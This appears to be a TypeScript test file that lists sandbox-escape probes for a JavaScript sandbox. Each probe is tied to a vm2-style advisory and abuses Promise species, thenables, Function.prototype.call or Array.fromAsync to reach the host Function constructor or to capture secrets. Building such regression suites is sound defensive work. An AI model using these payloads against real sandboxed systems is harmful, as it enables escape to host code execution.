/** Probes that get between a promise and who waits for it. */
import type { Probe } from './probe.ts';

export const promises: readonly Probe[] = [
  {
    name: 'another species of promise',
    source: 'CVE-2023-37466',
    gains: 'host',
    code: `class Own { constructor(executor) { take(executor.constructor); executor((value) => { take(value); take(value?.constructor?.constructor); }, (error) => { take(error?.constructor?.constructor); }); } }
      for (const promise of [given.promise, given.rejected, Promise.resolve(), (async () => {})()]) {
        try { promise.constructor = { [Symbol.species]: Own }; } catch {}
        try { promise.then(() => {}, () => {}); } catch {}
      }
      await null; await null;`,
  },
  {
    name: 'the promise of an asynchronous function',
    source: 'CVE-2026-22709',
    gains: 'host',
    code: `const odd = async () => { const error = new Error(); error.name = Symbol('x'); return error.stack + given.fails[0](); };
      await odd().catch((error) => { take(error.constructor.constructor); });
      for (const fails of given.fails) await (async () => fails())().catch((error) => { take(error?.constructor?.constructor); });`,
  },
  {
    name: 'a subclass with another species',
    source: 'GHSA-76w7-j9cq-rx2j',
    gains: 'host',
    code: `class Own extends Promise { static get [Symbol.species]() { return function (executor) { executor((value) => { take(value?.constructor?.constructor); }, (error) => { take(error?.constructor?.constructor); }); }; } }
      for (const fails of given.fails) { try { new Own((resolve) => { resolve(fails()); }).then(); } catch (error) { take(error.constructor.constructor); } }
      await null; await null; await null;`,
  },
  {
    name: 'the end of an asynchronous generator',
    source: 'CVE-2026-45411',
    gains: 'host',
    code: `const inner = { [Symbol.asyncIterator]: () => ({ next: (value) => ({ value, done: false }), throw: (value) => ({ value, done: false }) }) };
      for (const fails of given.fails) {
        const outer = (async function* () { yield* inner; })();
        await outer.next();
        const { value } = await outer.return({ then(resolve) { fails(); resolve(); } }).catch((error) => ({ value: error }));
        take(value?.constructor?.constructor);
      }`,
  },
  {
    name: 'a method of promises on another constructor',
    source: 'vm2, docs/attacks/promise-async.md, category 7',
    gains: 'host',
    code: `function Own(executor) { executor((value) => { take(value); }, (error) => { take(error?.constructor?.constructor); }); }
      Own.resolve = () => { for (const fails of given.fails) fails(); };
      for (const name of ['all', 'race', 'any', 'allSettled', 'try']) {
        for (const fails of given.fails) { try { Promise[name].call(Own, name === 'try' ? fails : { [Symbol.iterator]: fails }); } catch (error) { take(error?.constructor?.constructor); } }
      }`,
  },
  {
    name: 'the call behind every call',
    source: 'vm2, docs/attacks/promise-async.md, first example of category 7',
    gains: 'secret',
    code: `const call = Function.prototype.call;
      Function.prototype.call = function (...args) { take(this); for (const arg of args) take(arg); return Reflect.apply(this, args[0], args.slice(1)); };
      Promise.resolve().then(() => {});`,
  },
  {
    name: 'arrays that are filled later',
    source: 'GHSA-v27g-jcqj-v8rw, by Array.fromAsync',
    gains: 'host',
    code: `for (const fails of given.fails) await Array.fromAsync([0], fails).catch((error) => { take(error?.constructor?.constructor); });
      await given.list.constructor.fromAsync?.([0], () => {}).then((list) => { take(list.constructor.constructor); });`,
  },
  {
    name: 'what a promise from outside is resolved to',
    source: 'CVE-2026-44000',
    gains: 'host',
    code: `await given.promise.then((value) => { take(value); take(value?.constructor?.constructor); });
      take(given.promise.constructor.constructor);`,
  },
  {
    name: 'the end of a promise from outside',
    source: 'GHSA-6j2x-vhqr-qr7q',
    gains: 'host',
    code: `await given.rejected.finally(() => { given.fails[0](); }).catch((error) => { take(error?.constructor?.constructor); });
      take(given.rejected.finally.constructor);
      take(WebAssembly.promising?.constructor); take(WebAssembly.Memory.constructor);`,
  },
  {
    name: 'an array’s own species',
    source: 'GHSA-grj5-jjm8-h35p, self-return',
    gains: 'host',
    code: `const found = [];
      for (const list of [given.list, [1, 2]]) {
        try { list.constructor = { [Symbol.species]: function () { return found; } }; } catch {}
        for (const name of ['map', 'filter', 'slice', 'concat', 'flat', 'splice']) { try { take(list[name]((x) => x).constructor.constructor); } catch {} }
      }
      take(found); take(given.list.constructor.constructor);`,
  },
  {
    name: 'then as it is for everybody',
    source: 'LavaMoat/LavaMoat#1565',
    gains: 'secret',
    code: `const then = Promise.prototype.then;
      Promise.prototype.then = function (yes, no) { return Reflect.apply(then, this, [(value) => { take(value); return yes ? yes(value) : value; }, no]); };`,
  },
  {
    name: 'a thenable for code outside',
    source: 'GHSA-mpf8-4hx2-7cjg',
    gains: 'host',
    code: `const thenable = { then(resolve, reject) { take(resolve); take(reject); take(resolve.constructor); resolve({ __proto__: null }); } };
      for (const thing of given.things.slice(0, 80)) { try { thing(thenable); } catch (error) { take(error.constructor.constructor); } }
      given.call(() => thenable);
      await Promise.resolve(thenable);`,
  },
];
